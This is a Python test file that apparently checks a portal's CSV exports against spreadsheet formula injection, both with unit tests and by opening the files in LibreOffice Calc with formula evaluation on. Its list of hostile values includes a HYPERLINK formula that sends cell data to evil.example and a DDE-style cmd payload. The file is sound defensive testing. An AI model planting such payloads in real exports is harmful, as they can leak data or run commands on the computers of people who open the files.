"""Every CSV the portal writes, the open data (Python) and the self-review's spreadsheet (the
browser's csv-text.js), neutralises a cell a spreadsheet could run as a formula. The rule is
unit-tested in both languages; then LibreOffice Calc opens CSVs made from hostile values, with
formula evaluation on, and must find no formula in any of them."""
from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from pathlib import Path
from xml.sax.saxutils import escape

import pytest

from esafety_portal.csv_text import csv_bytes, safe_cell
from esafety_portal.load import load_content
from esafety_portal.open_data import csv_files
from support.project_copy import copy_project, replace_in
from support.site import ROOT

HOSTILE = ["=1+1", '=HYPERLINK("https://evil.example/?" & A1; "Open")', "+1+1", "-2+3", "@SUM(1)",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
SOFFICE = shutil.which("soffice") or "/usr/bin/soffice"
NODE = shutil.which("node") or "node"


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["feature-01", "Filtering", "1+1", " =1+1", "e-Safety", "", "'=1"])
def test_other_cells_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_a_table_is_utf8_with_a_byte_order_mark_and_crlf():
    data = csv_bytes(["id", "title"], [["a", "=1+1"], ["b", 'say "hi", -1']])
    assert data == '\ufeffid,title\r\na,\'=1+1\r\nb,"say ""hi"", -1"\r\n'.encode("utf-8")


def _hostile_open_data(tmp_path: Path) -> dict[str, bytes]:
    """The open-data CSVs of a copy of the data with a small made-up framework whose values are
    formulas, written by the build's own functions."""
    project = copy_project(tmp_path / "project", parts=("data",))
    target = project / "data" / "frameworks" / "example-standards.yml"
    shutil.copy(ROOT / "tests" / "fixtures" / "frameworks" / "example-standards.yml", target)
    replace_in(target, "title: Keep a zebracrossing filter log", "title: '=1+1'")
    replace_in(target, "text: Write down each time the filter blocks a site a pupil needed, and what you did.",
               "text: '=HYPERLINK(\"https://evil.example/?\" & A1; \"Open\")'")
    replace_in(target, "reference: Standard 1", "reference: '-2+3'")
    replace_in(target, "title: Review the filter yearly", "title: '@SUM(1)'")
    replace_in(target, "reference: Standard 2", "reference: '+1+1'")
    return csv_files(load_content(project))


def _browser_csv() -> bytes:
    """The self-review's CSV text (csv-text.js, as self-review-state.js's csv uses it) of hostile notes."""
    rows = [["Id", "Evidence"]] + [[f"feature-{n}", value] for n, value in enumerate(HOSTILE)]
    script = ("const S = require('./docs/assets/javascripts/self-review-state.js');"
              "process.stdout.write(S.csv(JSON.parse(process.argv[1])));")
    run = subprocess.run([NODE, "-e", script, json.dumps(rows)], cwd=ROOT, capture_output=True, timeout=60)
    assert run.returncode == 0, run.stderr.decode()
    return run.stdout


def test_libreoffice_finds_no_formula_in_any_csv(tmp_path):
    if not Path(SOFFICE).exists():
        pytest.fail("LibreOffice Calc is missing: run `bash .ci/system-packages` (this test never skips)")
    files = {f"open-data-{name}": data for name, data in _hostile_open_data(tmp_path).items()}
    files["self-review.csv"] = _browser_csv()
    folder = tmp_path / "csv"
    folder.mkdir()
    for name, data in files.items():
        (folder / name).write_bytes(data)
    # Comma, double quote, UTF-8, from row 1, English, and token 13: evaluate formulas (Calc's
    # strictest reading, as a user who ticks "Evaluate formulas" gets).
    infilter = "CSV:44,34,76,1,,1033,false,true,false,false,false,1,true"
    result = subprocess.run([SOFFICE, "--headless", "--norestore", f"-env:UserInstallation=file://{tmp_path}/profile",
                             f"--infilter={infilter}", "--convert-to", "fods", "--outdir", str(tmp_path / "fods"),
                             *sorted(str(folder / name) for name in files)], capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr
    neutralised = 0
    for name, data in files.items():
        sheet = tmp_path / "fods" / f"{Path(name).stem}.fods"
        assert sheet.exists(), f"LibreOffice Calc could not open {name}: {result.stdout}{result.stderr}"
        xml = sheet.read_text("utf-8")
        formulas = re.findall(r'table:formula="[^"]*"', xml)
        assert not formulas, f"{name}: Calc read formulas: {formulas}"
        # The hostile values are there as the text written, apostrophe and all: none was worked out.
        cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
        for cell in cells:
            if cell.startswith("'") and cell.strip().startswith("'="):
                assert escape(cell.strip(), {"'": "&apos;", '"': "&quot;"}) in xml, name
        neutralised += sum(cell.startswith("'") for cell in cells)
    assert neutralised >= len(HOSTILE) + 5, "the hostile values did not reach the CSVs"
